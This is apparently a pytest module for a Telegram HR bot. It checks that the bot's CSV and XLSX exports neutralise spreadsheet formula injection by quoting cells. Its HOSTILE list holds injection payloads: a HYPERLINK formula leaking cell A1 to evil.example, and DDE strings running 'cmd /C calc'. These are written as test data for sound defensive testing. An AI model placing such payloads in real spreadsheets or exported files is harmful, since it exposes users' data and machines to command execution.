"""CSV and XLSX injection (issue 17, item 5): names, ids and units that a spreadsheet would run
as formulas are written as text in every file the bot writes (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import openpyxl
import pytest
from aiogram.utils.i18n import I18n

from bot.infra.i18n import create_i18n, in_locale
from bot.kernel.cells import csv_text, neutralise
from bot.quarterly.upload_rules import plans_template
from bot.quarterly.workbook import build_quarter_workbook
from bot.staff.files import read_table
from bot.staff.people import InviteLink, invites_csv
from bot.survey360.results import results_csv
from bot.survey360.workbook import build_round_workbook
from tests.domain import test_quarter_reports as quarter
from tests.domain.test_reports import PROFILE, Person, subject_result

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def assert_inert(text: object) -> None:
    """A cell as read back: text that begins with the neutralising quote, never a formula."""
    assert isinstance(text, str)
    text = text.replace("_x000D_", "\r")  # how XLSX keeps a CR, which openpyxl leaves escaped
    assert not text.startswith(FORMULA_STARTS), repr(text)
    assert text.startswith("'") and text[1:] in HOSTILE, repr(text)


@pytest.fixture(scope="module")
def i18n() -> I18n:
    return create_i18n("kk")


def test_neutralise_prefixes_exactly_the_formula_starts() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for harmless in ("Әлиева", "E-1", "1001", "", "'quoted", " =1 with a space", "a=b"):
        assert neutralise(harmless) == harmless


def test_csv_text_neutralises_text_and_leaves_numbers() -> None:
    text = csv_text([("id", "n"), ("-1", -1), ("=1+1", 2.5)])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["id", "n"], ["'-1", "-1"], ["'=1+1", "2.5"]]


def test_invites_csv() -> None:
    links = [
        InviteLink(hostile, hostile, f"https://t.me/bot?start=t{i}") for i, hostile in enumerate(HOSTILE)
    ]
    rows = list(csv.reader(io.StringIO(invites_csv(links), newline="")))
    assert rows[0] == ["employee_id", "full_name", "link"]
    assert len(rows) == len(HOSTILE) + 1
    for employee_id, full_name, link in rows[1:]:
        assert_inert(employee_id)
        assert_inert(full_name)
        assert link.startswith("https://t.me/bot?start=t")


def hostile_results() -> list:  # type: ignore[type-arg]
    people = [
        Person(hostile, hostile, hostile, HOSTILE[0], "employees", [(4, 4, 4)] * 8) for hostile in HOSTILE
    ]
    return [subject_result(person, no) for no, person in enumerate(people, start=1)]


def test_results_csv() -> None:
    rows = list(csv.reader(io.StringIO(results_csv(hostile_results()), newline="")))
    assert rows[0] == ["employee_id", "competency_no", "mean", "n_responses"]
    assert len(rows) == len(HOSTILE) * 8 + 1
    for employee_id, competency_no, mean, n_responses in rows[1:]:
        assert_inert(employee_id)
        assert (competency_no, mean, n_responses) == (competency_no, "4.00", "3")


def test_plans_template() -> None:
    text = plans_template([(hostile, hostile) for hostile in HOSTILE], kpis_each=1)
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows[1:]:
        assert_inert(row[0])
        assert_inert(row[1])
        assert row[2] == "1"


def every_cell(book: openpyxl.Workbook) -> list[openpyxl.cell.Cell]:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def hostile_in(value: object) -> str | None:
    """The hostile text a cell holds, neutralised or not (None for any other cell)."""
    if not isinstance(value, str):
        return None
    text = value.replace("_x000D_", "\r")
    return text if text.removeprefix("'") in HOSTILE else None


def test_round_workbook_writes_hostile_text_as_inert_text(i18n: I18n) -> None:
    with in_locale(i18n, "en"):
        data = build_round_workbook(hostile_results(), PROFILE)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = every_cell(book)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
    written = [text for cell in cells if (text := hostile_in(cell.value)) is not None]
    # each person's id, name and position, and the unit in the title block and the training sheet
    assert len(written) >= len(HOSTILE) * 3 + 2
    for value in written:
        assert_inert(value)


def test_quarter_workbook_writes_hostile_text_as_inert_text(i18n: I18n) -> None:
    records = [
        replace(record, employee_code=hostile, full_name=hostile, unit=hostile, position=hostile)
        for record, hostile in zip(quarter.RECORDS, HOSTILE, strict=False)
    ]
    with in_locale(i18n, "en"):
        data = build_quarter_workbook(
            records,
            quarter.PROFILE,
            year=quarter.YEAR,
            quarter=quarter.QUARTER,
            created_at=quarter.CREATED_AT,
        )
    cells = every_cell(openpyxl.load_workbook(io.BytesIO(data)))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    written = [text for cell in cells if (text := hostile_in(cell.value)) is not None]
    assert len(written) >= len(HOSTILE) * 3
    for value in written:
        assert_inert(value)


def test_the_template_comes_back_as_written() -> None:
    """The work-plan template goes out neutralised and comes back filled in: the quote the
    bot added is taken off again, so the ids still match the staff list."""
    text = plans_template([("-15", "=Әлиева"), ("E-1", "'quoted")], kpis_each=1)
    _header, rows = read_table(text.encode("utf-8-sig"), "work-plans.csv")

    assert [(row["employee_id"], row["full_name"]) for _line, row in rows] == [
        ("-15", "=Әлиева"),
        ("E-1", "'quoted"),
    ]
